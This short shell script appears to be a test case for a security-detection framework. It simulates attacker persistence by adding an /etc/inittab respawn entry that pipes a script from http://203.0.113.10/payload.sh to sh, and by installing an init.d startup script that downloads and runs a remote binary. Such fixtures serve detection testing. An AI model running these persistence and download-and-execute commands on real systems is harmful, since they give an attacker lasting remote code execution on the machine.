#!/bin/sh
. /opt/case/case.sh

echo '::respawn:/bin/sh -c "wget -qO- http://203.0.113.10/payload.sh | sh; sleep 60"' >>/etc/inittab
mkdir -p /etc/init.d
printf '#!/bin/sh\n/bin/wget -qO /tmp/x http://203.0.113.10/programs/marker\nchmod +x /tmp/x\n/tmp/x &\n' >/etc/init.d/S99network
chmod +x /etc/init.d/S99network
grep -q respawn /etc/inittab
took_place
